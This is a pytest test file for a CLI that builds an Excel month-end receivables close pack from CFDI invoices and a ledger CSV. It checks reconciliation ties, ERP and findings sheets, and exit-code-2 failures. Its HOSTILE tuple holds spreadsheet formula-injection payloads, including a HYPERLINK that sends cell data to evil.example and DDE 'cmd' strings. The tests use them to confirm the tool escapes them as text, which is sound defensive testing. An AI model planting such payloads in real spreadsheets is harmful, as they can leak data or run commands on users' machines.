"""The close pack and `cfdi-ar close` beyond the samples: hostile text stays text, the ERP's items are a sheet of
their own and never count as explained, invalid CFDIs and credit balances reach their sheets and still tie, and
every bad input exits 2 with no workbook written. (tests/close/test_close_samples.py runs the samples.)"""

from __future__ import annotations

import json
import os
from decimal import Decimal as D
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from cfdi_ar.cli import main
from cfdi_ar.close.pack import workbook

from .aging_fixtures import close_ledger, close_month, close_target  # noqa: F401 - fixtures
from .conftest import ACCOUNT, GL_HEADER, planted_gl_rows, write_csv
from .workbook_eval import evaluate, find, formulas, header_columns, number

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "=1+1")


def _close(db: str, gl: Path, out: Path, *more: str):  # type: ignore[no-untyped-def]
    result = CliRunner().invoke(main, ["close", "--db", db, "--period", "2026-10", "--gl", str(gl), "--account", ACCOUNT,
                                       "-o", str(out), *more])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


def _ties(wb, data) -> None:  # type: ignore[no-untyped-def]
    """Every formula is one the pack writes, and the reconciliation's cells compute the JSON's figures."""
    for sheet, cell, _ in formulas(wb):
        evaluate(wb, sheet, cell)
    r = data["reconciliation"]
    assert [evaluate(wb, "Conciliación", f"B{n}") for n in range(3, 8)] == \
        [D(r[k]) for k in ("ar_balance", "gl_balance", "difference", "explained", "unexplained")]


def test_hostile_gl_text_stays_text_and_no_formula_but_the_packs_own(month_ledger, month, gl_file, tmp_path):
    hostile = [("16/10/2026", HOSTILE[5], "105-01-009", text, HOSTILE[(i + 1) % 5], "1.00", "") for i, text in enumerate(HOSTILE[:5])]
    out = tmp_path / "cierre.xlsx"
    result = _close(month_ledger.target, gl_file(planted_gl_rows(month) + hostile), out, "-f", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    wb = load_workbook(out)
    _ties(wb, data)
    assert not [f for _, _, f in formulas(wb) if "HYPERLINK" in f or "cmd" in f or "1+1" in f or "1+2" in f]
    shown = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and any(h.strip() in c.value for h in HOSTILE)]
    descriptions = {c.value for c in shown}
    assert {"'" + h.strip() for h in HOSTILE[:5]} <= descriptions  # each description (as the reader trims it), as text
    assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@", "\t")) for c in shown)
    rec = wb["Conciliación"]
    cols = header_columns(rec, 10)
    manual = [n for n in range(11, find(rec, "Total de partidas")) if rec.cell(row=n, column=1).value == "gl_without_cfdi"]
    assert len(manual) == 6 and {rec.cell(row=n, column=cols["Póliza"]).value for n in manual} >= {"'=1+1"}


def test_the_erps_items_get_their_own_sheet_and_never_count_as_explained(month_ledger, month, gl_file, tmp_path):
    erp = write_csv(tmp_path / "ar.csv", ("Cliente", "Documento", "Saldo"), [("A", "F-1001", "760.00"), ("B", "+1", "2.00")])
    out = tmp_path / "cierre.xlsx"
    result = _close(month_ledger.target, gl_file(), out, "--ar", str(erp), "-f", "json")
    data = json.loads(result.stdout)
    wb = load_workbook(out)
    assert wb.sheetnames[:3] == ["Resumen", "Conciliación", "Partidas ERP"]
    _ties(wb, data)
    erp_items = [i for i in data["reconciliation"]["items"] if not i["explains"]]
    sheet = wb["Partidas ERP"]
    total = find(sheet, "Total")
    assert sorted(number(sheet[f"D{n}"].value) for n in range(4, total)) == sorted(D(i["amount"]) for i in erp_items)
    assert evaluate(wb, "Partidas ERP", f"D{total}") == sum(D(i["amount"]) for i in erp_items)
    assert evaluate(wb, "Conciliación", "B6") == sum(D(i["amount"]) for i in data["reconciliation"]["items"] if i["explains"])
    summary = wb["Resumen"]
    row = find(summary, "Saldo según ERP (informativo)")
    assert summary[f"B{row}"].value == "='Conciliación'!B8" and evaluate(wb, "Resumen", f"B{row}") == D(data["reconciliation"]["erp_balance"])


def _october_gl(tmp_path: Path, u: dict[str, str]) -> Path:
    rows = [("10/08/2026", "D-1", "105-01-001", "Venta F-101", u["F-101"], "11,600.00", ""),
            ("20/09/2026", "I-1", "105-01-001", "Cobro P-201", u["P-201"], "", "5,000.00"),
            ("15/10/2026", "I-2", "105-01-001", "Cobro P-202", u["P-202"], "", "4,000.00"),
            ("28/10/2026", "I-3", "105-01-001", "Cobro sin REP", u["F-101"], "", "1,000.00"),
            ("05/10/2026", "D-2", "105-01-001", "Venta F-105", u["F-105"], "1,160.00", ""),
            ("22/10/2026", "D-3", "105-01-001", "Venta F-109", u["F-109"], "348.00", "")]
    return write_csv(tmp_path / "gl.csv", GL_HEADER, rows)


def test_invalid_cfdis_and_credit_balances_reach_their_sheets_and_the_pack_still_ties(close_ledger, close_month, tmp_path):
    u = close_month.uuid
    out = tmp_path / "cierre.xlsx"
    result = _close(close_ledger.target, _october_gl(tmp_path, u), out, "-f", "json", "--default-days", "30")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    wb = load_workbook(out)
    _ties(wb, data)
    findings = wb["Hallazgos"]
    cols = header_columns(findings, 3)
    rows = {findings.cell(row=n, column=cols["UUID"]).value: n for n in range(4, findings.max_row + 1)}
    bad = rows[u["F-109"]]
    assert findings.cell(row=bad, column=1).value == "invalid_cfdi"
    assert findings.cell(row=bad, column=cols["Códigos SAT"]).value == "CFDI40102"
    aging = wb["Antigüedad"]
    acols = header_columns(aging, 3)
    tot = find(aging, "TOTAL")
    assert evaluate(wb, "Antigüedad", aging.cell(row=tot, column=acols["Saldos a favor del cliente"]).coordinate) == \
        D(data["aging"]["total"]["credit"]) == D("100.00")
    assert evaluate(wb, "Antigüedad", aging.cell(row=tot, column=acols["Neto"]).coordinate) == D(data["aging"]["total"]["net"])
    assert evaluate(wb, "Resumen", f"B{find(wb['Resumen'], 'Cartera según antigüedad (neto)')}") == \
        D(data["reconciliation"]["ar_balance"])
    kpis = wb["Indicadores"]
    assert evaluate(wb, "Indicadores", f"C{find(kpis, 'credit_balances', column=2)}") == D("100.00")


def test_the_pack_refuses_a_language_it_does_not_have(month_ledger):  # type: ignore[no-untyped-def]
    with pytest.raises(ValueError, match="language 'fr'"):
        workbook(None, "fr")  # type: ignore[arg-type]


# --------------------------------------------------------------------------- exit code 2: nothing written


@pytest.mark.parametrize(("args", "message"), [
    (["--period", "2026-13"], "is not a month"),
    (["--out", "cierre.csv"], "the close pack is an Excel workbook (.xlsx)"),
    (["--out", "no/such/folder/cierre.xlsx"], "does not exist"),
    (["--account", "999"], "no line of account 999"),
    (["--account", ","], "an account code is required"),
    (["--lang", "fr"], "'fr' is not one of"),
    (["--buckets", "0,30,20"], "bucket edges must increase"),
    (["--gl-preset", "nope"], "no GL preset 'nope'"),
    (["--ar", "missing.csv"], "cannot read"),
])
def test_bad_input_exits_2_with_a_message_and_writes_nothing(month_ledger, gl_file, cwd, args, message):
    base = {"--db": month_ledger.target, "--gl": str(gl_file()), "--account": ACCOUNT, "--period": "2026-10"}
    for flag, value in zip(args[::2], args[1::2]):
        base[flag] = value
    result = CliRunner().invoke(main, ["close", *[x for kv in base.items() for x in kv]])
    assert result.exit_code == 2 and message in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not list(cwd.glob("*.xlsx")) and not list(cwd.glob(".*partial"))


def test_a_malformed_gl_exits_2_naming_the_row_and_column(month_ledger, gl_file, cwd):
    bad = gl_file([("05/10/2026", "D-1", "105-01", "Venta", "", "1.234,56", "")])
    result = CliRunner().invoke(main, ["close", "--db", month_ledger.target, "--period", "2026-10", "--gl", str(bad),
                                       "--account", ACCOUNT])
    assert result.exit_code == 2 and "row 2, column 'Cargo'" in result.stderr
    assert not (cwd / "cierre-2026-10.xlsx").exists()


def test_no_ledger_exits_2_and_creates_none(tmp_path, gl_file, cwd):
    result = CliRunner().invoke(main, ["close", "--db", str(tmp_path / "none.db"), "--period", "2026-10", "--gl",
                                       str(gl_file()), "--account", ACCOUNT])
    assert result.exit_code == 2 and "no ledger at" in result.stderr
    assert not (tmp_path / "none.db").exists() and not (cwd / "cierre-2026-10.xlsx").exists()


def test_a_workbook_that_cannot_be_written_exits_2_and_leaves_no_partial_file(month_ledger, gl_file, cwd):
    (cwd / "cierre-2026-10.xlsx").mkdir()  # the name is taken by a folder
    result = CliRunner().invoke(main, ["close", "--db", month_ledger.target, "--period", "2026-10", "--gl", str(gl_file()),
                                       "--account", ACCOUNT])
    assert result.exit_code == 2 and "cannot write cierre-2026-10.xlsx" in result.stderr
    assert [p.name for p in cwd.iterdir() if p.name.endswith(".partial")] == []


def test_the_default_workbook_is_cierre_yyyy_mm_in_the_working_folder_and_the_table_says_so(month_ledger, gl_file, cwd):
    result = CliRunner().invoke(main, ["close", "--db", month_ledger.target, "--period", "2026-10", "--gl", str(gl_file()),
                                       "--account", ACCOUNT])
    assert result.exit_code == 1
    assert "Workbook: cierre-2026-10.xlsx" in result.stdout and "NOT READY TO CLOSE:" in result.stdout
    assert "  - reconciliation: 8 reconciling items" in result.stdout
    assert load_workbook(cwd / "cierre-2026-10.xlsx").sheetnames[0] == "Resumen"
    assert os.stat(cwd / "cierre-2026-10.xlsx").st_size > 0
